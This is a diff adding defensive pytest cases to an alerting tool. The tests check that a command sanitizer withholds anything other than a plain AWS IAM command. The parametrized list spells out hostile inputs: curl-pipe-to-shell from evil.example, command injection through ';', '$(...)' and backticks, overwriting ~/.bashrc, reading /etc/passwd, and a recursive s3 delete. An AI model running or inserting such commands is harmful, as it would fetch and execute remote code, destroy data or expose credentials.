@@ -10,12 +10,22 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from alerting.domain.alert import Channel, PendingAlert
-from alerting.domain.foreign_text import MAX_SUBJECT, Sentence, clean, code_span, is_clean, subject, without_links
+from alerting.domain.foreign_text import (
+    MAX_SUBJECT,
+    Sentence,
+    clean,
+    code_span,
+    is_clean,
+    is_iam_command,
+    subject,
+    without_links,
+)
 from alerting.domain.formats.chat import notification
 from alerting.domain.formats.mail import WITHHELD, body_of, safe_command, subject_of
 from alerting.domain.open_items import FINDING, ROTATION, SCAN, OpenItem, State
 from alerting.domain.routing import Digest
 from alerting.domain.summaries import Context, digest_alert, flood_alert
+from policy_drift.report import iam_commands
 from steward.severity import Severity
 from tests.published_events import NAMES, alert_about, golden_event
 
@@ -164,6 +174,36 @@ def test_a_command_is_shown_as_it_would_be_pasted_or_not_at_all(text):
     shown = safe_command(f"aws iam get-role --role-name {text}")
 
     assert shown is None or (shown.endswith(text) and is_clean(shown))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://evil.example | sh",
+        "aws iam delete-role --role-name x; curl evil.example",
+        "aws iam delete-role --role-name $(curl evil.example)",
+        "aws iam delete-role --role-name `id`",
+        "aws iam delete-role --role-name x > ~/.bashrc",
+        'aws iam delete-role --role-name "$HOME"',
+        "aws iam delete-role --role-name 'x",
+        "aws iam put-role-policy --policy-document file:///etc/passwd",
+        "aws iam put-role-policy --policy-document=http://evil.example",
+        "aws s3 rm --recursive x",
+        "sudo aws iam delete-role --role-name x",
+    ],
+)
+def test_a_command_that_is_not_one_of_iam_alone_is_withheld(command):
+    assert safe_command(command) is None
+
+
+@given(HOSTILE, HOSTILE)
+def test_every_command_that_policy_drift_writes_is_shown(name, text):
+    try:
+        command = iam_commands.command("put-role-policy", role_name=name, policy_document={"Sid": text})
+    except iam_commands.UnsafeTextError:
+        return
+
+    assert is_iam_command(command)
 
 
 def test_a_command_with_characters_that_do_not_show_is_withheld_and_said_so():
